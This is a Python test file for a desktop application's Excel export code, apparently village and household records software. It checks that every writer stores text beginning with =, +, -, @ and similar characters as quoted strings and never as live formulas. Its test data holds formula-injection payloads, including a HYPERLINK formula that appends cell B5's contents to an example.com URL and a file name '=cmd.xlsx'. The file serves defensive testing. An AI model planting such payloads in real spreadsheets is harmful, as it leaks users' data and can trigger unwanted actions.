"""Every .xlsx the program writes keeps text as text (issue 14): a village named "=HYPERLINK(…)" — which an
imported village workbook can create — is never a live formula in the 汇总表, the exchange export, the
national export, the error workbook or a list export. Each writer is given text starting with = + - @,
TAB, CR, full-width ＝ and the Unicode minus −; each written file is then read back: no formula anywhere in
its XML, every such text a string cell carrying Excel's quote prefix (so that editing it later keeps it
text), and the text itself unchanged."""

from __future__ import annotations

import zipfile
from datetime import date
from pathlib import Path

import openpyxl
import pytest

from desktop.services import exchange, regions
from desktop.services.exchange.reader import Issue
from desktop.services.exchange.xlsx import TEXT, Book, Col
from desktop.services.listing import Listing
from desktop.services.listing import write_xlsx as write_list
from desktop.services.reports import summary_xlsx

from ..conftest import TODAY, YEAR
from .hostile_files import XSheet, write_xlsx
from .test_exchange_book import family_rows, hh, table

# What a person can type into a cell (no control characters: names refuse them); TAB and CR where free text
# or our own messages can carry them.
TYPED = ['=HYPERLINK("http://example.com/"&B5,"点此")', "+8613800000000", "-2+3", "@SUM(A1:A9)", "＝全角等号",
         "−1"]
ALL = TYPED + ["\tTAB", "\rCR"]


def no_formulas_and_quoted(path: Path, texts: list[str]) -> None:
    with zipfile.ZipFile(path) as z:
        for name in z.namelist():
            if name.startswith("xl/worksheets/"):
                xml = z.read(name)
                assert b"<f>" not in xml and b"<f " not in xml, name
    found = set()
    wb = openpyxl.load_workbook(path)
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                value = cell.value
                if not isinstance(value, str):
                    continue
                value = value.replace("_x000D_", "\r").replace("_x0009_", "\t")
                if value == "\nCR":  # an XML parser reads a carriage return in text as a line feed
                    value = "\rCR"
                if value in texts:
                    assert cell.data_type == "s", (ws.title, cell.coordinate, value)
                    assert cell.quotePrefix, (ws.title, cell.coordinate, value)
                    found.add(value)
    assert found == set(texts), set(texts) - found


def test_the_writer_itself(tmp_path):
    path = tmp_path / "b.xlsx"
    book = Book(path)
    sw = book.sheet("数据", [Col("文字", TEXT), Col("共用", TEXT, shared=True)])
    for text in ALL:
        sw.row([text, text])
    ws = book.wb.add_worksheet("其他")
    for i, text in enumerate(ALL):
        book.write(ws, i, 0, text)
    book.merge(ws, 0, 2, 0, 4, ALL[0])
    book.close()
    no_formulas_and_quoted(path, ALL)


def test_public_write_path_too(tmp_path):
    path = tmp_path / "p.xlsx"
    book = Book(path, constant_memory=False)
    sw = book.sheet("数据", [Col("文字", TEXT)])
    assert not sw.fast
    for text in ALL:
        sw.row([text])
    book.close()
    no_formulas_and_quoted(path, ALL)


def test_a_list_export(tmp_path):
    rows = [[t, 1, date(2024, 1, 2)] for t in ALL]
    out = write_list(Listing("名单", ["文字", "数", "日期"], rows, subtitle=ALL[0]), tmp_path / "l.xlsx")
    no_formulas_and_quoted(out, ALL)


def test_the_error_workbook(tmp_path):
    errors = [Issue(t, 2, t, t, "原因" + t) for t in ALL]
    out = exchange.write_error_workbook(errors, tmp_path / "e.errors.xlsx", source=tmp_path / "=cmd.xlsx")
    no_formulas_and_quoted(out, ALL)


def test_a_cell_longer_than_excel_allows_is_cut_not_broken(tmp_path):
    out = write_list(Listing("名单", ["文字"], [["长" * 40_000]]), tmp_path / "l.xlsx")
    assert len(openpyxl.load_workbook(out).active["A4"].value) == 32_767


@pytest.fixture
def villages(ctx, tmp_path):
    """Villages named as a hostile village workbook would name them, created by importing it."""
    hs, ms = [], []
    for i, name in enumerate(TYPED):
        no = f"H{i + 1:03d}"
        hs.append(hh(no, village=name))
        ms += family_rows(no, 10 + 2 * i)
    # written as text cells (openpyxl would write "=…" as a formula, which the import refuses as having no value)
    path = write_xlsx(tmp_path / "村.xlsx", [XSheet("户信息", table(hs)), XSheet("家庭成员", table(ms))])

    def work(s):
        pv = exchange.preview(s, path, YEAR, create_villages=True)
        assert pv.ok, [e.text() for e in pv.errors[:5]]
        exchange.apply(s, pv, as_of=TODAY, take_backup=False, check=False)
    ctx.run(work)
    names = ctx.read(lambda s: [v.name for v in regions.tree(s)])
    assert set(TYPED) <= set(names)
    return TYPED


def test_the_summary_workbook(ctx, villages, tmp_path):
    out = ctx.read(summary_xlsx.write, tmp_path / "汇总表.xlsx", YEAR, TODAY)
    no_formulas_and_quoted(out, villages)


def test_the_exchange_export(ctx, villages, tmp_path):
    out = tmp_path / "导出.xlsx"
    ctx.read(exchange.export_workbook, out, YEAR)
    no_formulas_and_quoted(out, villages)


def test_the_national_export(ctx, villages, tmp_path):
    out = tmp_path / "全国.xlsx"
    ctx.read(exchange.export_national, out, YEAR)
    no_formulas_and_quoted(out, villages)
